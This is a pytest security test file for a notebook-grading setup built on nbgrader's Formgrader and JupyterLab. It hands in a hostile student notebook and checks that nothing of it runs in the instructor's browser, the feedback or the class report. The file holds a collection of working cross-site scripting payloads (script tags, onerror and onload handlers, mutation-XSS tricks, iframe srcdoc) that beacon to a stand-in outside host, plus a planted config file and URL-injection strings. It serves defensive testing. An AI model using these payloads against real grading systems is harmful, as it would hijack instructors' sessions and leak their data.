"""A hostile submission in a real browser: nothing of it runs in Formgrader, JupyterLab, feedback or report."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import nbformat
import pytest
from browsing import TOKEN, UNIT, Lab, first_answer, written_ids
from nbconvert.exporters import HTMLExporter
from nbformat.sign import NotebookNotary
from nbgrader.utils import make_unique_key
from traitlets.config import Config

from return_to_dust.marking.course import open_course, quiet_nbgrader
from return_to_dust.marking.display import FORMGRADER, NBGRADERS
from return_to_dust.report.data import class_report
from return_to_dust.report.page import write_report

STUDENT = "mallory"
OUTSIDE = "http://outside.invalid"
#: What every payload tries: marks that stay in the window and in the browser, and a word to the outside.
RUN = (
    f"window.hostile=1;localStorage.setItem('hostile','1');document.cookie='hostile=1';new Image().src='{OUTSIDE}/ran'"
)
LOADS = (
    f'<link rel="stylesheet" href="{OUTSIDE}/link"><style>@import url({OUTSIDE}/style);</style>'
    f'<img src="{OUTSIDE}/img"><img srcset="{OUTSIDE}/srcset 1x"><video poster="{OUTSIDE}/poster"></video>'
    f'<div style="color: red; background: url({OUTSIDE}/css); background-color: url({OUTSIDE}/css2)">coloured</div>'
    f'<object data="{OUTSIDE}/object"></object><input type="image" src="{OUTSIDE}/input">'
    f'<svg><image href="{OUTSIDE}/image"/></svg><base href="{OUTSIDE}/base/">'
)
HTML = (
    f'<script>{RUN}</script><img src=x onerror="{RUN}"><svg onload="{RUN}"></svg><body onload="{RUN}">'
    f'<iframe srcdoc="<script>parent.eval(&quot;{RUN}&quot;)</script>"></iframe>'
    f'<iframe src="javascript:parent.eval(&quot;{RUN}&quot;)"></iframe>'
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
    f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">'
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"><details open ontoggle="{RUN}"></details>{LOADS}'
)
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script><image href="{OUTSIDE}/s"/></svg>'
BUNDLES: list[tuple[dict[str, Any], dict[str, Any]]] = [
    ({"text/html": HTML}, {}),
    ({"text/html": HTML}, {"text/html": {"isolated": True}}),
    ({"image/svg+xml": SVG}, {}),
    ({"application/javascript": RUN}, {}),
    ({"text/markdown": HTML}, {}),
    ({"text/latex": f"$\\href{{javascript:{RUN}}}{{x}}$ {HTML}"}, {}),
    ({"image/png": 'AA" onerror="' + RUN}, {"image/png": {"width": f"1 src=x onerror={RUN}".replace(" ", "\t")}}),
    ({"text/plain": f"\x1b[31m<img src=x onerror={RUN}>"}, {}),
    ({"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{RUN}</script>"}}, {}),
]
HONEST = """
import matplotlib.pyplot as plt
import pandas as pd
display(pd.DataFrame({"honest": ["尘烟"]}))
fig, ax = plt.subplots(figsize=(4, 2))
ax.plot([1, 3, 2])
plt.show()
print("\\x1b[1mhonest text\\x1b[0m")
"""
TEMPTING = f'<span class="full-credit">click</span> [read more]({OUTSIDE}/read)'
WRITTEN = f"{HTML}\n\nHonest maths $\\frac{{15}}{{16}}$\n\n{TEMPTING}"


@dataclass
class Seen:
    """What a page did while it was open."""

    page: Any
    requests: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)

    def ran(self) -> list[str]:
        """Name every sign that something of the submission ran, or reached outside."""
        signs = [url for url in self.requests if url.startswith(OUTSIDE)] + self.dialogs
        signs += self.page.evaluate(
            """() => {
                const windows = [window, ...Array.from({length: window.length}, (_, n) => window[n])];
                const here = one => { try { return 'hostile' in one } catch { return false } };
                const kept = () => { try { return 'hostile' in localStorage } catch { return false } };
                return [...(windows.some(here) ? ['window'] : []), ...(kept() ? ['storage'] : [])];
            }"""
        )
        return signs + (["cookie"] if "hostile" in str(self.page.context.cookies()) else [])


@pytest.fixture(scope="module")
def hostile(course: Path) -> dict[str, Path]:
    """Hand in and autograde a hostile notebook, with hostile files beside it; make its feedback and the report."""
    folder = course / "term" / "submitted" / STUDENT / UNIT
    folder.mkdir(parents=True)
    (folder / f"{UNIT}.ipynb").write_text(json.dumps(hostile_notebook(course)), encoding="utf-8")
    (folder / "page.html").write_text(f"<script>{RUN}</script>")
    api = open_course(course)
    with api.gradebook as gradebook:
        gradebook.add_student(STUDENT, first_name=HTML, last_name=HTML)
    quiet_nbgrader("autograde", api.autograde, UNIT, STUDENT)
    with api.gradebook as gradebook:
        for comment in gradebook.find_submission_notebook(UNIT, UNIT, STUDENT).comments:
            comment.manual_comment = HTML
        gradebook.db.commit()
    quiet_nbgrader("generate feedback", api.generate_feedback, UNIT, STUDENT)
    report = course / "term" / "reports" / "hostile.html"
    write_report(class_report(course, UNIT), report)
    return {"feedback": course / "term" / "feedback" / STUDENT / UNIT / f"{UNIT}.html", "report": report}


def hostile_notebook(course: Path) -> dict[str, Any]:
    """Return the assignment, answered with every payload, and with honest work."""
    notebook: dict[str, Any] = json.loads((course / "assignments" / UNIT / f"{UNIT}.ipynb").read_text(encoding="utf-8"))
    grade_id, answer = first_answer(course)
    shows = "".join(f"display({data!r}, raw=True, metadata={metadata!r})\n" for data, metadata in BUNDLES)
    for cell in notebook["cells"]:
        about = cell["metadata"].get("nbgrader", {})
        if about.get("grade_id") == grade_id:
            cell["source"] = f"{answer}\n{HONEST}\n{shows}raise ValueError({HTML!r})"
        elif about.get("grade_id") in written_ids(course):
            cell["source"] = WRITTEN
    raw = {"cell_type": "raw", "id": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": HTML}
    tags = {
        "cell_type": "markdown",
        "id": "tags",
        "metadata": {"tags": ['"><script>window.hostile=1</script>']},
        "source": "tagged",
    }
    notebook["cells"] += [raw, tags]
    return notebook


@pytest.fixture
def seen(instructor_lab: Lab) -> Iterator[Seen]:
    """A page of a browser in which the instructor is known to Jupyter."""
    context = instructor_lab.browser.new_context(viewport={"width": 1300, "height": 1000})
    page = context.new_page()
    page.goto(f"{instructor_lab.url}/api/status?token={TOKEN}")
    yield watched(page)
    context.close()


def watched(page: Any) -> Seen:
    """Note what a page asks for, shows and complains about."""
    seen = Seen(page)
    page.on("request", lambda one: seen.requests.append(one.url))
    page.on("dialog", lambda one: (seen.dialogs.append(one.message), one.dismiss()))
    page.on("console", lambda one: seen.complaints.append(one.text) if one.type == "error" else None)
    page.on("pageerror", lambda error: seen.complaints.append(str(error)))
    return seen


def submission_url(lab: Lab) -> str:
    """Return the address of Formgrader's page of the hostile submission."""
    with open_course(lab.course).gradebook as gradebook:
        return f"{lab.url}/formgrader/submissions/{gradebook.find_submission_notebook(UNIT, UNIT, STUDENT).id}/"


def autograded(lab: Lab) -> Path:
    """Return the marked hostile notebook."""
    return lab.course / "term" / "autograded" / STUDENT / UNIT / f"{UNIT}.ipynb"


def open_until_loaded(seen: Seen, url: str) -> None:
    """Open a page, and give what it holds the time to act."""
    seen.page.goto(url, wait_until="load")
    seen.page.wait_for_timeout(700)


def unprotected(lab: Lab, settings: dict[str, Any]) -> str:
    """Render Formgrader's page of the submission with other settings of the exporter."""
    names = {"notebook_id": UNIT, "assignment_id": UNIT, "student": STUDENT, "notebook_path": "x", "base_url": ""}
    resources = {**names, "submission_id": submission_url(lab).split("/")[-2], "index": 0, "total": 1}
    exporter = HTMLExporter(config=Config({"HTMLExporter": settings}))
    page, _ = exporter.from_filename(str(autograded(lab)), resources=resources)
    return str(page)


def open_instead(seen: Seen, url: str, body: str) -> None:
    """Open another body at Formgrader's own address, so that it acts on the same origin."""
    seen.page.route(url, lambda route: route.fulfill(body=body, content_type="text/html; charset=utf-8"))
    open_until_loaded(seen, url)


def test_when_formgrader_shows_a_hostile_submission_then_nothing_runs(
    hostile: dict[str, Path], instructor_lab: Lab, seen: Seen
) -> None:
    """No output and no written answer acts on the instructor's origin, or tells anybody outside."""
    open_until_loaded(seen, submission_url(instructor_lab))
    assert seen.ran() == []


def test_when_formgrader_is_as_nbgrader_ships_it_then_the_same_submission_runs(
    hostile: dict[str, Path], instructor_lab: Lab, seen: Seen
) -> None:
    """The payloads work: what the tests above and below see is the protection."""
    stock = {"template_name": "formgrade", "extra_template_basedirs": [str(NBGRADERS)]}
    open_instead(seen, submission_url(instructor_lab), unprotected(instructor_lab, stock))
    assert {"window", "storage", "cookie", f"{OUTSIDE}/ran"} <= set(seen.ran())


def test_when_the_cleaner_is_off_then_the_policy_alone_lets_nothing_run(
    hostile: dict[str, Path], instructor_lab: Lab, seen: Seen
) -> None:
    """The second layer holds by itself: the browser runs nbgrader's scripts and no others, and loads from nowhere."""
    policy_only = FORMGRADER | {
        "preprocessors": [],
        "filters": {"script_policy": FORMGRADER["filters"]["script_policy"]},
    }
    open_instead(seen, submission_url(instructor_lab), unprotected(instructor_lab, policy_only))
    assert not {"storage", "cookie", "window"} & set(seen.ran())


def test_when_formgrader_is_protected_then_it_still_works(
    hostile: dict[str, Path], instructor_lab: Lab, seen: Seen
) -> None:
    """Formgrader's scripts start without a complaint, a point and a comment are saved."""
    page = seen.page
    open_until_loaded(seen, submission_url(instructor_lab))
    (first, *_) = written_ids(instructor_lab.course)
    with page.expect_response(lambda answer: "/api/grade/" in answer.url and answer.request.method == "PUT") as grade:
        page.locator(f"[id='{first}']").fill("1")
        page.locator(f"[id='{first}']").blur()
    with page.expect_response(lambda answer: "/api/comment/" in answer.url and answer.request.method == "PUT") as said:
        page.locator(f"[id='{first}-comment']").fill("seen")
        page.locator(f"[id='{first}-comment']").blur()
    started = page.evaluate("formgrader.loaded && MathJax.loaded")
    assert (seen.complaints, started, grade.value.status, said.value.status) == ([], True, 200, 200)


def test_when_work_is_honest_then_formgrader_shows_it(
    hostile: dict[str, Path], instructor_lab: Lab, seen: Seen
) -> None:
    """Table, text, maths and a figure are there to be marked."""
    open_until_loaded(seen, submission_url(instructor_lab))
    page = seen.page
    widths = page.evaluate("[...document.querySelectorAll('img')].map(one => one.naturalWidth)")
    shown = [
        page.locator("table.dataframe td", has_text="尘烟").count(),
        page.locator(".output_stdout .ansi-bold", has_text="honest text").count(),
        min(1, page.locator(".nbgrader_cell math mfrac").count()),
        int(max(widths) > 100),
    ]
    assert shown == [1, 1, 1, 1]


def test_when_a_student_borrows_formgraders_buttons_then_they_do_nothing(
    hostile: dict[str, Path], instructor_lab: Lab, seen: Seen
) -> None:
    """A class that Formgrader listens to is not kept, and a link opens apart from the frame that JupyterLab obeys."""
    open_until_loaded(seen, submission_url(instructor_lab))
    link = seen.page.get_by_role("link", name="read more").first
    borrowed = seen.page.locator(".rendered_html .full-credit").count()
    assert (borrowed, link.get_attribute("target"), link.get_attribute("rel")) == (0, "_blank", "noopener noreferrer")


@pytest.mark.parametrize("name", ["feedback", "report"])
def test_when_a_page_about_the_submission_is_opened_from_the_disk_then_nothing_runs(
    hostile: dict[str, Path], browser: Any, name: str
) -> None:
    """The feedback, with a hostile comment, and the class report show text."""
    seen = watched(browser.new_page())
    open_until_loaded(seen, hostile[name].as_uri())
    ran = seen.ran()
    seen.page.close()
    assert (ran, seen.complaints) == ([], [])


@pytest.mark.parametrize("name", ["feedback", "report"])
def test_when_a_page_has_lost_its_policy_then_still_nothing_runs(
    hostile: dict[str, Path], browser: Any, name: str, tmp_path: Path
) -> None:
    """The first layer holds by itself: the page holds nothing that a browser would run or load."""
    text = hostile[name].read_text(encoding="utf-8").replace("Content-Security-Policy", "no-policy")
    (tmp_path / "page.html").write_text(text, encoding="utf-8")
    seen = watched(browser.new_page())
    open_until_loaded(seen, (tmp_path / "page.html").as_uri())
    ran = seen.ran()
    seen.page.close()
    assert ran == []


def test_when_jupyterlab_opens_the_marked_notebook_then_nothing_runs(
    hostile: dict[str, Path], instructor_lab: Lab
) -> None:
    """Nobody has signed it, so that JupyterLab cleans what it shows."""
    seen = in_jupyterlab(instructor_lab, autograded(instructor_lab))
    ran = seen.ran()
    seen.page.close()
    assert [sign for sign in ran if not sign.startswith(OUTSIDE)] == []


def test_when_jupyterlab_is_told_to_trust_the_notebook_then_it_runs(
    hostile: dict[str, Path], instructor_lab: Lab
) -> None:
    """The payloads work in JupyterLab too: what keeps them from running is that marking signs nothing."""
    trusted = instructor_lab.course / "term" / "trusted.ipynb"
    notebook = nbformat.read(autograded(instructor_lab), as_version=4)
    notebook.metadata["copy"] = make_unique_key("a", "b", "c", "d", "e")
    nbformat.write(notebook, trusted)
    NotebookNotary().sign(nbformat.read(trusted, as_version=4))
    seen = in_jupyterlab(instructor_lab, trusted)
    ran = seen.ran()
    seen.page.close()
    assert "storage" in ran


def in_jupyterlab(lab: Lab, notebook: Path) -> Seen:
    """Open a notebook in JupyterLab, and scroll through it so that all cells are shown."""
    page = lab.open(notebook.relative_to(lab.course).as_posix())
    seen = watched(page)
    cells = page.evaluate("jupyterapp.shell.currentWidget.content.widgets.length")
    for index in range(0, cells, 4):
        page.evaluate("n => jupyterapp.shell.currentWidget.content.scrollToItem(n)", index)
        page.wait_for_timeout(60)
    return seen


def test_when_a_file_of_the_submission_is_opened_then_its_script_does_not_run(
    hostile: dict[str, Path], instructor_lab: Lab, seen: Seen
) -> None:
    """A page that a student handed in is shown in a sandbox."""
    (autograded(instructor_lab).parent / "page.html").write_text(f"<script>{RUN}</script>")
    response = seen.page.goto(f"{submission_url(instructor_lab)}page.html")
    seen.page.wait_for_timeout(300)
    assert (response.status, seen.ran()) == (200, [])


def test_when_a_link_names_another_folder_then_formgrader_does_not_read_its_settings(
    hostile: dict[str, Path], instructor_lab: Lab, seen: Seen
) -> None:
    """One click must not run the `nbgrader_config.py` that a student handed in."""
    mark = instructor_lab.course / "ran"
    folder = instructor_lab.course / "term" / "submitted" / STUDENT / UNIT
    (folder / "nbgrader_config.py").write_text(f"open({str(mark)!r}, 'w')")
    response = seen.page.goto(f"{instructor_lab.url}/formgrader?path={quote(str(folder))}")
    assert (response.status, mark.exists()) == (403, False)


@pytest.mark.parametrize("page", ["manage_students", "manage_submissions", "gradebook"])
def test_when_a_link_carries_script_into_formgrader_then_it_does_not_run(
    instructor_lab: Lab, seen: Seen, page: str
) -> None:
    """A name from an address stays a name, in HTML and in a script."""
    for name in (f'";{RUN};"', f"<img src=x onerror={RUN}>".replace("/", "&#47;")):
        open_until_loaded(seen, f"{instructor_lab.url}/formgrader/{page}/{quote(name, safe='')}")
    assert seen.ran() == []
